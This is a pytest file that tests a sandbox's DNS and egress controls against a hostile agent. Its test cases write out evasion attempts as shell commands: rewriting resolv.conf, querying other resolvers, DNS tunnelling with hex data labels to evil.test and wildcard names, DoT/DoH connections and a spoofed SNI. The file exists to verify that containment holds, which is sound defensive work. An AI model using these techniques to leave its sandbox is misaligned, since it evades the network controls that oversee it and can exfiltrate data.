"""A hostile agent in a container sandbox against the DNS path.

The sandbox's /etc/resolv.conf names the router's resolver; whatever server the agent
names instead, every packet to port 53 lands there (DNAT). Names outside its policy are
refused and never reach the upstream (the internet's DNS server logs every name).
"""

from __future__ import annotations

import os
from collections.abc import AsyncIterator

import pytest

from dsec.net.resolver import Resolver
from dsec.net.testinternet import ALLOWED, DNS_UPSTREAM, SIBLING, TCP_ECHO_PORT

from .test_egress_hostile import Env, env, images_dir, policy

pytestmark = [pytest.mark.root,
              pytest.mark.skipif(os.geteuid() != 0, reason="needs root (CI runs as root)")]

__all__ = ["env", "images_dir"]  # fixtures shared with test_egress_hostile


@pytest.fixture
async def dns(env: Env) -> AsyncIterator[Resolver]:
    r = Resolver(env.net, upstreams=[(DNS_UPSTREAM, 53)], upstream_netns_fd=env.internet.fd,
                 timeout_s=1.0, forward_burst=5, forward_rate=1)
    await r.start()
    try:
        yield r
    finally:
        await r.close()


async def lookup(env: Env, sid: str, name: str, server: str = "") -> str:
    return await env.sh(sid, f"nslookup -timeout=2 {name} {server}; echo rc=$?")


async def test_allowed_name_resolves_and_is_reachable_only_as_allowed(
        env: Env, dns: Resolver) -> None:
    sid = await env.create(policy("allowed.test:80/tcp"))
    assert (await env.sh(sid, "cat /etc/resolv.conf")).startswith("nameserver 10.213.255.254")
    out = await lookup(env, sid, "allowed.test")
    assert f"Address: {ALLOWED}" in out and "rc=0" in out, out
    assert (await env.tool(sid, "tcp", ALLOWED, "80", "hi")) == f"OK ok {ALLOWED}:80"
    # the name's address, but another port: not allowed
    assert (await env.tool(sid, "tcp", ALLOWED, str(TCP_ECHO_PORT), "x")).startswith("ERR")
    assert env.internet.dns_queries == ["allowed.test."]


async def test_other_names_and_other_resolvers_are_refused_and_never_forwarded(
        env: Env, dns: Resolver) -> None:
    sid = await env.create(policy("allowed.test:80/tcp"))
    for server in ("", DNS_UPSTREAM, "198.51.100.7"):
        out = await lookup(env, sid, "sibling.test", server)
        assert SIBLING not in out and "rc=1" in out, (server, out)
    # resolv.conf rewritten to the upstream: still dsec's resolver answering
    await env.sh(sid, f"echo nameserver {DNS_UPSTREAM} > /etc/resolv.conf")
    out = await lookup(env, sid, "sibling.test")
    assert SIBLING not in out and "rc=1" in out, out
    out = await lookup(env, sid, "allowed.test")
    assert f"Address: {ALLOWED}" in out, out
    assert env.internet.dns_queries == ["allowed.test."]
    assert env.internet.arrived(port=53) == []


async def test_dns_tunnelling_is_refused_or_capped(env: Env, dns: Resolver) -> None:
    sid = await env.create(policy("allowed.test:80/tcp", "*.wild.test:443/tcp"))
    label = "6578666" * 8  # 56 hex chars: a label of data
    await env.sh(sid, "for i in $(seq 1 20); do nslookup -timeout=1 "
                 f"{label}.$i.evil.test >/dev/null 2>&1; "
                 f"nslookup -type=txt -timeout=1 $i.allowed.test >/dev/null 2>&1; done",
                 timeout_s=120)
    assert env.internet.dns_queries == []
    # a wildcard the agent controls is the one channel left: capped by the bucket
    await env.sh(sid, "for i in $(seq 1 30); do nslookup -timeout=1 "
                 f"{label}$i.wild.test >/dev/null 2>&1; done", timeout_s=120)
    forwarded = [q for q in env.internet.dns_queries if q.endswith(".wild.test.")]
    assert 1 <= len(forwarded) < 30, len(forwarded)
    assert dns.stats.rate_limited >= 1


async def test_dot_doh_and_spoofed_sni_go_nowhere(env: Env, dns: Resolver) -> None:
    sid = await env.create(policy("allowed.test:443/tcp"))
    await lookup(env, sid, "allowed.test")
    for port in ("853", "443"):
        out = await env.tool(sid, "tcp", DNS_UPSTREAM, port, "dot-or-doh")
        assert out.startswith("ERR connect"), out
    # a ClientHello naming the allowed host, sent to another address: dropped at L3
    out = await env.tool(sid, "tcp", SIBLING, "443", "sni=allowed.test")
    assert out.startswith("ERR connect"), out
    assert env.internet.arrived(data=b"dot-or-doh") == []
    assert env.internet.arrived(dst=SIBLING) == []
    assert (await env.tool(sid, "tcp", ALLOWED, "443", "hi")) == f"OK ok {ALLOWED}:443"
